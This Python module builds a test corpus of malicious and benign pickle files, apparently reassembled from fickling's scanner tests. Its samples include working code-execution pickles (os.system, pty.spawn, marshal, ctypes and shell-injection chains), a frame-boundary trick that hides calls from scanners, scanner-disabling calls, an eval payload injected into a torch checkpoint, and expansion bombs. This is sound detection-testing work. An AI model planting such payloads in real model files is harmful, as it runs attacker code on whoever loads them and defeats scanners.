"""fickling (LGPL-3.0, github.com/trailofbits/fickling): the opcode lists of test/test_bypasses.py,
test/test_scan_api.py, test/test_scanner_deactivation_analysis.py and
test/test_expansion_attack_analysis.py, re-assembled with our own assembler.

Labels: a test asserting ``severity > LIKELY_SAFE`` (or ``not is_safe``) makes a sample malicious;
one asserting ``LIKELY_SAFE`` / no unsafe-import result makes it benign. fickling's test classes
build pickles with its own opcode API; only the opcode sequences (data) carry over.
"""

from __future__ import annotations

import marshal
import pickle
import struct
from collections.abc import Callable

from peer_corpus import Payload, PeerSample
from peer_corpus import asm as a
from peer_corpus._files import blob, zip_bytes

BY = "test/test_bypasses.py"
M = pickle.MEMOIZE


def _s(sid: str, source: str, description: str, make: Callable[[Payload], bytes], name: str = "") -> PeerSample:
    return PeerSample(f"fickling/{sid}", source, description, blob(name or f"{sid}.pkl", make))


def _sg(module: str, name: str, memo: bool = True) -> bytes:
    return a.ustr(module) + (M if memo else b"") + a.ustr(name) + (M if memo else b"") + pickle.STACK_GLOBAL + (
        M if memo else b"")


def _p(n: int, body: bytes) -> bytes:
    return a.proto(n) + body + pickle.STOP


def _getattr_chain(module: str, name: str, arg: bytes, attr: str, final: bytes, p5: bool = True) -> bytes:
    # builtins.getattr(module.name(arg), attr)(final): the shape of fickling's ctypes/importlib/code tests
    return _p(5, _sg("builtins", "getattr") + _sg(module, name) + arg + M + pickle.REDUCE + M + a.ustr(attr) + M
              + pickle.TUPLE2 + M + pickle.REDUCE + M + final + M + pickle.TUPLE1 + M + pickle.REDUCE + M)


def _marshal(p: Payload) -> bytes:
    code = compile(p.py, "<string>", "exec")
    blob_ = marshal.dumps(code)
    body = (a.ustr("marshal") + a.ustr("loads") + pickle.STACK_GLOBAL + M + pickle.BINGET + b"\x00"
            + a.value(blob_, 4) + pickle.TUPLE1 + pickle.REDUCE + M + a.ustr("types") + a.ustr("FunctionType")
            + pickle.STACK_GLOBAL + M + pickle.BINGET + b"\x02" + pickle.BINGET + b"\x01" + pickle.EMPTY_DICT
            + pickle.TUPLE2 + pickle.REDUCE + M + pickle.BINGET + b"\x03" + pickle.EMPTY_TUPLE + pickle.REDUCE + M
            + a.ustr("gottem") + pickle.BUILD)
    return a.proto(4) + a.frame(body + pickle.STOP)


def _frame_divergence(p: Payload) -> bytes:
    # BINBYTES declares 0x107 bytes inside a FRAME of 2: pickle.load reads past the frame and runs the
    # buried GLOBAL/REDUCE while a frame-respecting parser sees a long byte string (cpython#154848)
    hidden = a.global_("os", "system") + a.unicode0(p.cmd) + pickle.TUPLE1 + pickle.REDUCE
    inner = (hidden + pickle.MARK).ljust(max(256 + 5, len(hidden) + 1), pickle.NONE)
    return (a.proto(5) + pickle.NONE + pickle.UNICODE + b"a" * (8192 * 16 - 17) + b"\n" + pickle.POP + pickle.MARK
            + pickle.FRAME + struct.pack("<Q", 2) + pickle.BINBYTES + struct.pack("<I", 2 + len(inner))
            + b"\x00\x00" + inner + pickle.POP_MARK + pickle.STOP)


def _torch_insertion(p: Payload) -> bytes:
    # fickling's PyTorchModelWrapper.inject_payload(injection="insertion"): builtins.eval(code) run first
    # inside the torch zip's data.pkl (eval result popped), the state dict unpickled after it
    import io
    import zipfile

    import torch

    from peer_corpus._files import torch_save

    original = torch_save({"weight": torch.zeros(2, 2)})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(original)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("/data.pkl"):
                head = 2 if data[:1] == pickle.PROTO else 0
                data = data[:head] + a.call_body("builtins", "eval", [p.expr], 2) + pickle.POP + data[head:]
            dst.writestr(info.filename, data)
    return out.getvalue()


def _framed(body: bytes, declared: int) -> bytes:
    return a.proto(5) + pickle.FRAME + struct.pack("<Q", declared) + body + pickle.STOP


STRADDLES: list[tuple[str, bytes]] = [
    ("binbytes", _framed(pickle.BINBYTES + struct.pack("<I", 20) + b"A" * 20, 5)),
    ("short_binunicode", _framed(b"\x8c\x14" + b"A" * 20, 3)),
    ("global_module", _framed(a.global_("macos", "system"), 4)),
    ("global_attr", _framed(a.global_("os", "system"), 7)),
    ("unicode", _framed(pickle.UNICODE + b"hello world\n", 5)),
    ("binint", _framed(pickle.BININT + struct.pack("<i", 7), 2)),
    ("nested_frame", a.proto(5) + pickle.FRAME + struct.pack("<Q", 30) + pickle.NONE + pickle.FRAME
     + struct.pack("<Q", 2) + pickle.NONE + pickle.STOP),
]

WELL_FORMED: list[tuple[str, object]] = [
    ("small_list", [1, 2, 3, 4]),
    ("large_unframed_bytes", b"x" * 100000),
    ("interleaved", [1, b"y" * 100000, 2]),
    ("several_frames", list(range(200000))),
    ("nested", {"a": [1, 2, {"b": (3, 4)}], "c": [5, 6]}),
]

NETWORK = [("smtplib", "SMTP", 25), ("imaplib", "IMAP4", 143), ("ftplib", "FTP", 21), ("poplib", "POP3", 110),
           ("telnetlib", "Telnet", 23), ("nntplib", "NNTP", 119)]

# fickling.analysis.UnsafeImportsML.UNSAFE_MODULES / UNSAFE_IMPORTS (TestUnsafeModuleCoverage)
ML_MODULES = ["torch.hub", "torch._dynamo", "torch._inductor", "torch.jit", "torch.compile", "numpy.f2py",
              "numpy.distutils"]
ML_IMPORTS = [("torch", "load"), ("torch", "compile"), ("torch.storage", "_load_from_bytes"),
              ("torch.utils._config_module", "ConfigModule"),
              ("torch.distributed.elastic.rendezvous.api", "basichandlers"),
              ("numpy.testing._private.utils", "runstring"), ("_io", "FileIO"), ("_io", "open"), ("io", "FileIO"),
              ("io", "open")]
SCANNERS = ["fickling", "picklescan", "modelscan", "model_unpickler", "saferpickle", "modelaudit"]


def _call0(module: str, name: str) -> Callable[[Payload], bytes]:
    return lambda _: _p(4, a.global_(module, name) + pickle.EMPTY_TUPLE + pickle.REDUCE)


def samples() -> list[PeerSample]:
    cmd = lambda p: a.ustr(p.cmd) + M  # noqa: E731
    return [
        _s("pty_spawn_memo_build", f"{BY}::test_missing_pty_unsafe_imports_ghsa", "pty.spawn(cmd) then BUILD",
           lambda p: a.proto(4) + a.frame(_sg("pty", "spawn") + cmd(p) + pickle.TUPLE1 + M + pickle.REDUCE + M
                                           + a.ustr("gottem") + M + pickle.BUILD + pickle.STOP)),
        _s("pty_spawn_obj", f"{BY}::test_missing_pty_unsafe_imports_pr", "MARK GLOBAL pty.spawn STRING OBJ",
           lambda p: pickle.MARK + a.global_("pty", "spawn") + a.text_str(p.cmd) + pickle.OBJ + pickle.STOP),
        _s("marshal_functiontype", f"{BY}::test_missing_marshal_and_types",
           "types.FunctionType(marshal.loads(code), {})()", _marshal),
        _s("runpy_run_path", f"{BY}::test_missing_runpy", "runpy.run_path(path)",
           lambda p: a.proto(5) + a.frame(_sg("runpy", "run_path") + a.ustr(str(p.marker)) + M + pickle.TUPLE1 + M
                                           + pickle.REDUCE + M + pickle.STOP)),
        _s("cprofile_run", f"{BY}::test_missing_cprofile", "cProfile.run(code)",
           lambda p: a.proto(5) + a.frame(_sg("cProfile", "run") + a.ustr(p.py) + M + pickle.TUPLE1 + M
                                           + pickle.REDUCE + M + pickle.STOP)),
        _s("ctypes_cdll", f"{BY}::test_missing_ctypes", "getattr(ctypes.CDLL(lib), 'system')(cmd)",
           lambda p: _getattr_chain("ctypes", "CDLL", a.ustr("libc.so.6") + M + pickle.TUPLE1, "system",
                                    a.value(p.cmd.encode(), 4))),
        _s("pydoc_locate", f"{BY}::test_missing_pydoc", "pydoc.locate('os.system')(cmd)",
           lambda p: _p(5, _sg("pydoc", "locate") + a.ustr("os.system") + M + pickle.TUPLE1 + M + pickle.REDUCE + M
                        + cmd(p) + pickle.TUPLE1 + M + pickle.REDUCE + M)),
        _s("importlib_import_module", f"{BY}::test_missing_importlib",
           "getattr(importlib.import_module('os'), 'system')(cmd)",
           lambda p: _getattr_chain("importlib", "import_module", a.ustr("os") + M + pickle.TUPLE1, "system",
                                    a.ustr(p.cmd))),
        _s("code_interactive_interpreter", f"{BY}::test_missing_code",
           "getattr(code.InteractiveInterpreter(), 'runsource')(code)",
           lambda p: _getattr_chain("code", "InteractiveInterpreter", pickle.EMPTY_TUPLE, "runsource", a.ustr(p.py))),
        _s("multiprocessing_spawnv_passfds", f"{BY}::test_missing_multiprocessing",
           "multiprocessing.util.spawnv_passfds(b'/bin/sh', [..., b'-c', cmd], ())",
           lambda p: a.proto(5) + a.frame(_sg("multiprocessing.util", "spawnv_passfds") + a.value(b"/bin/sh", 4) + M
                                           + pickle.EMPTY_LIST + M + pickle.MARK + pickle.BINGET + b"\x03"
                                           + a.value(b"-c", 4) + M + a.value(p.cmd.encode(), 4) + M + pickle.APPENDS
                                           + pickle.EMPTY_TUPLE + pickle.TUPLE3 + M + pickle.REDUCE + M
                                           + pickle.STOP)),
        _s("builtins_import_getattr", f"{BY}::test_builtins_import_bypass",
           "getattr(__import__('os'), 'system')(cmd) through PUT/GET",
           lambda p: a.global_("builtins", "__import__") + a.text_str("os") + pickle.TUPLE1 + pickle.REDUCE
           + b"p0\n0" + a.global_("builtins", "getattr") + b"g0\n" + a.text_str("system") + pickle.TUPLE2
           + pickle.REDUCE + b"p1\n0g1\n" + a.text_str(p.cmd) + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP),
        _s("builtins_len", f"{BY}::test_safe_builtins_not_flagged", "builtins.len([])",
           lambda _: a.global_("builtins", "len") + pickle.EMPTY_LIST + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP),
        _s("builtins_dict", f"{BY}::test_safe_builtin_dict_not_flagged", "builtins.dict()",
           lambda _: a.global_("builtins", "dict") + pickle.EMPTY_TUPLE + pickle.REDUCE + pickle.STOP),
        _s("builtins_getattr", f"{BY}::test_unsafe_builtins_still_flagged", "builtins.getattr('os', 'system')",
           lambda _: a.global_("builtins", "getattr") + a.text_str("os") + a.text_str("system") + pickle.TUPLE2
           + pickle.REDUCE + pickle.STOP),
        _s("builtins_eval", f"{BY}::test_unsafe_builtin_eval_still_flagged", "builtins.eval(expr)",
           lambda p: a.global_("builtins", "eval") + a.text_str(p.expr) + pickle.TUPLE1 + pickle.REDUCE
           + pickle.STOP),
        _s("operator_methodcaller", f"{BY}::test_operator_methodcaller",
           "_operator.methodcaller('system', cmd)(__import__('os'))",
           lambda p: a.global_("builtins", "__import__") + pickle.MARK + a.unicode0("os") + pickle.TUPLE
           + pickle.REDUCE + b"p0\n0" + a.global_("_operator", "methodcaller") + pickle.MARK + a.unicode0("system")
           + a.unicode0(p.cmd) + pickle.TUPLE + pickle.REDUCE + pickle.MARK + b"g0\n" + pickle.TUPLE + pickle.REDUCE
           + pickle.STOP),
        _s("distutils_write_file", f"{BY}::test_distutils_write_file", "distutils.file_util.write_file(path, [..])",
           lambda p: _p(4, a.stack_global("distutils.file_util", "write_file") + a.ustr(str(p.marker))
                        + pickle.MARK + a.ustr("content") + pickle.LIST + pickle.TUPLE2 + pickle.REDUCE)),
        _s("io_fileio", f"{BY}::test_io_fileio", "_io.FileIO(path)",
           lambda p: _p(4, a.stack_global("_io", "FileIO") + a.ustr(str(p.marker)) + pickle.TUPLE1 + pickle.REDUCE)),
        _s("numpy_f2py_getlincoef", f"{BY}::test_numpy_f2py_getlincoef", "numpy.f2py.crackfortran.getlincoef(expr, {})",
           lambda p: _p(4, a.stack_global("numpy.f2py.crackfortran", "getlincoef") + a.ustr(p.expr)
                        + pickle.EMPTY_DICT + pickle.TUPLE2 + pickle.REDUCE)),
        *(_s(f"network_{mod}", f"{BY}::test_network_protocol_ssrf", f"{mod}.{cls}(host, {port}) then BUILD",
             lambda p, mod=mod, cls=cls, port=port: _p(4, a.global_(mod, cls) + a.ustr(p.host) + pickle.BININT2
                                                       + struct.pack("<H", port) + pickle.TUPLE2 + pickle.REDUCE
                                                       + pickle.EMPTY_DICT + pickle.BUILD))
          for mod, cls, port in NETWORK),
        _s("asyncio_subprocess", f"{BY}::test_asyncio_subprocess",
           "asyncio.unix_events._UnixSubprocessTransport._start({}, cmd, True, None, None, None, 0)",
           lambda p: a.proto(4) + a.frame(_sg("asyncio.unix_events", "_UnixSubprocessTransport._start")
                                           + pickle.MARK + pickle.EMPTY_DICT + M + cmd(p) + pickle.NEWTRUE
                                           + pickle.NONE * 3 + pickle.BININT1 + b"\x00" + pickle.TUPLE + M
                                           + pickle.REDUCE + M + pickle.STOP)),
        _s("obj_pop_invisible", f"{BY}::test_obj_pop_call_invisibility", "OBJ smtplib.SMTP(host) discarded by POP",
           lambda p: _p(4, pickle.MARK + a.stack_global("smtplib", "SMTP") + a.ustr(p.host) + pickle.OBJ
                        + pickle.POP + pickle.NONE)),
        _s("uuid_get_command_stdout", f"{BY}::test_missing_uuid", "uuid._get_command_stdout('touch', marker)",
           lambda p: _p(4, a.stack_global("uuid", "_get_command_stdout") + a.ustr("touch") + a.ustr(str(p.marker))
                        + pickle.TUPLE2 + pickle.REDUCE)),
        _s("aix_support_read_cmd_output", f"{BY}::test_missing_aix_support", "_aix_support._read_cmd_output(cmd)",
           lambda p: _p(4, a.stack_global("_aix_support", "_read_cmd_output") + a.ustr(p.cmd) + pickle.TUPLE1
                        + pickle.REDUCE)),
        _s("osx_support_find_build_tool", f"{BY}::test_missing_osx_support", "_osx_support._find_build_tool(injection)",
           lambda p: _p(4, a.stack_global("_osx_support", "_find_build_tool") + a.ustr(f"x; {p.cmd} #")
                        + pickle.TUPLE1 + pickle.REDUCE)),
        _s("dotted_attr_pathlib_os_system", f"{BY}::test_dotted_attr_via_stdlib_module",
           "STACK_GLOBAL pathlib / 'os.system' then call",
           lambda _: _p(4, a.stack_global("pathlib", "os.system") + pickle.EMPTY_TUPLE + pickle.REDUCE)),
        _s("ast_parse_import", f"{BY}::test_ml_allowlist_not_shadowed_by_unsafe_imports_ml",
           "STACK_GLOBAL ast.parse (import only, outside the ML allowlist)",
           lambda _: _p(4, a.stack_global("ast", "parse"))),
        *(_s(f"private_interpreters_{mod}", f"{BY}::test_private_stdlib_interpreters_blocklisted",
             f"{mod}.create()", lambda _, mod=mod: _p(4, a.stack_global(mod, "create") + pickle.EMPTY_TUPLE
                                                       + pickle.REDUCE))
          for mod in ("_interpreters", "_xxsubinterpreters")),
        *(_s(f"private_allowlist_{mod.strip('_')}", f"{BY}::test_private_stdlib_allowlist",
             f"STACK_GLOBAL {mod}.{name} (import only)", lambda _, mod=mod, name=name: _p(4, a.stack_global(mod, name)))
          for mod, name in (("_codecs", "encode"), ("__future__", "annotations"))),
        _s("future_dotted_ssl", f"{BY}::test_private_stdlib_allowlist",
           "STACK_GLOBAL __future__ / '_ssl.RAND_bytes' (dotted name under an allowed module)",
           lambda _: _p(4, a.stack_global("__future__", "_ssl.RAND_bytes"))),
        _s("frame_boundary_divergence", f"{BY}::test_frame_boundary_divergence",
           "BINBYTES straddling a 2-byte FRAME hides GLOBAL os.system + REDUCE", _frame_divergence),
        *(_s(f"frame_straddle_{name}", f"{BY}::test_frame_boundary_straddle_variants",
             f"opcode straddling its FRAME ({name})", lambda _, data=data: data) for name, data in STRADDLES),
        *(_s(f"well_formed_{name}_p{proto}", f"{BY}::test_well_formed_frames_are_not_flagged",
             f"pickle.dumps({name}) protocol {proto}",
             lambda _, obj=obj, proto=proto: pickle.dumps(obj, protocol=proto))
          for name, obj in WELL_FORMED for proto in (2, 4, 5)),
        *(_s(f"unsafe_module_{mod}", f"{BY}::TestUnsafeModuleCoverage::test_all_unsafe_modules_detected",
             f"{mod}.dangerous()", _call0(mod, "dangerous")) for mod in ML_MODULES),
        *(_s(f"unsafe_import_{mod}.{name}", f"{BY}::TestUnsafeModuleCoverage::test_all_unsafe_imports_detected",
             f"{mod}.{name}()", _call0(mod, name)) for mod, name in ML_IMPORTS),
        *(_s(f"scanner_deactivation_{mod}", "test/test_scanner_deactivation_analysis.py::"
             "test_all_scanner_modules_covered", f"{mod}.some_func()", _call0(mod, "some_func")) for mod in SCANNERS),
        _s("fickling_remove_hook", "test/test_scanner_deactivation_analysis.py::test_fickling_remove_hook",
           "fickling.hook.remove_hook()", _call0("fickling.hook", "remove_hook")),
        _s("fickling_deactivate_safe_ml", "test/test_scanner_deactivation_analysis.py::"
           "test_fickling_deactivate_safe_ml", "fickling.hook.deactivate_safe_ml_environment()",
           _call0("fickling.hook", "deactivate_safe_ml_environment")),
        _s("fickling_remove_hook_global", "test/test_scanner_deactivation_analysis.py::"
           "test_fickling_remove_hook_via_global_opcode", "GLOBAL fickling.hook.remove_hook, no PROTO",
           lambda _: a.global_("fickling.hook", "remove_hook") + pickle.EMPTY_TUPLE + pickle.REDUCE + pickle.STOP),
        _s("ordereddict_call", "test/test_scanner_deactivation_analysis.py::test_benign_import_not_flagged",
           "collections.OrderedDict()", lambda _: _p(4, a.stack_global("collections", "OrderedDict")
                                                      + pickle.EMPTY_TUPLE + pickle.REDUCE)),
        _s("memo_expansion", "test/test_expansion_attack_analysis.py::test_memo_expansion_detection",
           "list appended to itself 60 times through BINGET (billion-laughs shape)",
           lambda _: _p(4, pickle.EMPTY_LIST + M + (pickle.BINGET + b"\x00" + pickle.APPEND) * 60)),
        _s("dup_expansion", "test/test_expansion_attack_analysis.py::test_dup_expansion_detection",
           "150 DUP opcodes", lambda _: _p(4, pickle.EMPTY_LIST + pickle.DUP * 150)),
        _s("dup_nested_expansion", "test/test_expansion_attack_analysis.py::test_dup_nested_expansion_pattern",
           "3 MARKs, 'lol', then (3 DUPs + LIST) 3 times: globalLaughs.pt at 4^3 = 64 elements",
           lambda _: _p(4, pickle.MARK * 3 + a.ustr("lol") + (pickle.DUP * 3 + pickle.LIST) * 3)),
        _s("memo_nested_expansion", "test/test_expansion_attack_analysis.py::test_memo_nested_expansion_pattern",
           "3 MARKs, 'lol', then (BINPUT i + 3 BINGET i + LIST) 3 times: billionLaughsAlt.pkl at 64 elements",
           lambda _: _p(4, pickle.MARK * 3 + a.ustr("lol") + b"".join(
               pickle.BINPUT + bytes([i]) + (pickle.BINGET + bytes([i])) * 3 + pickle.LIST for i in range(3)))),
        _s("resource_exhaustion_gets", "test/test_expansion_attack_analysis.py::"
           "test_check_safety_catches_resource_exhaustion", "list appended to itself 200 times through BINGET",
           lambda _: _p(4, pickle.EMPTY_LIST + M + (pickle.BINGET + b"\x00" + pickle.APPEND) * 200)),
        _s("legitimate_range_list", "test/test_expansion_attack_analysis.py::test_legitimate_data_not_flagged",
           "pickle.dumps(list(range(100)))", lambda _: pickle.dumps(list(range(100)))),
        _s("torch_injection_insertion", "test/test_pytorch.py::TestPyTorchModule::test_injection_insertion",
           "torch zip whose data.pkl first runs builtins.eval(code), then the state dict", _torch_insertion,
           "test_model.pth"),
        _s("scan_file_payload", "test/test_scan_api.py::TestScanFile::test_detects_malicious_payload",
           "os.system(cmd) via pickle.dump of a __reduce__ class", lambda p: a.call("posix", "system", [p.cmd],
                                                                                    pickle.DEFAULT_PROTOCOL)),
        _s("scan_file_safe", "test/test_scan_api.py::TestScanFile::test_safe_data", "pickle.dump([1, 2, 3])",
           lambda _: pickle.dumps([1, 2, 3])),
        _s("zip_model_pkl", "test/test_scan_api.py::TestScanZipArchive::test_detects_malicious_pkl",
           "zip with model.pkl calling os.system",
           lambda p: zip_bytes([("model.pkl", a.call("posix", "system", [p.cmd], pickle.DEFAULT_PROTOCOL))]),
           "archive.zip"),
        _s("zip_pickle_extensions", "test/test_scan_api.py::TestScanZipArchive::test_scans_all_pickle_extensions",
           "zip with model.pkl/.pickle/.bin each holding 42",
           lambda _: zip_bytes([(f"model.{e}", pickle.dumps(42)) for e in ("pkl", "pickle", "bin")]), "archive.zip"),
        _s("zip_readme_and_list", "test/test_scan_api.py::TestScanZipArchive::test_skips_non_pickle_extensions",
           "zip with readme.txt and model.pkl of [1, 2, 3]",
           lambda _: zip_bytes([("readme.txt", b"hello"), ("model.pkl", pickle.dumps([1, 2, 3]))]), "archive.zip"),
    ]
